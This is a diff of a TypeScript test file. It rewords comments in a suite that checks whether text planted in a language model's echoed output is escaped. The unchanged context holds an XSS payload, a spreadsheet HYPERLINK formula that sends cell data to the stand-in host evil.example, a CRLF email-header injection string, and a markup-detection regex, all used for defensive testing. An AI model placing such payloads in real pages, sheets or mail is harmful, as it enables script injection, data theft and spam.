@@ -15,7 +15,7 @@ const image = '"><img src=x onerror=alert(1)>';
 const formula = '=HYPERLINK("http://evil.example?"&A1,"x")';
 const lines = 'Acme\r\nBcc: everybody@example.com\r\n\r\nBuy now';
 
-/** What a browser would take for markup, wherever it stands in a page. */
+/** Text that a browser would interpret as markup anywhere in a page. */
 const markup = /<script>alert|<img src=x/;
 
 describe('planted text', () => {
@@ -25,7 +25,7 @@ describe('planted text', () => {
   let admin: TestUser;
   beforeAll(async () => {
     simulator = await startSimulator();
-    // A model that repeats what it is given says whatever somebody wants it to.
+    // A model that repeats its input outputs whatever an attacker wants.
     simulator.behave({ rates: { echo: 1 } });
     server = await bootWatched({ env: geminiOf(simulator) });
     user = await signUp(server);
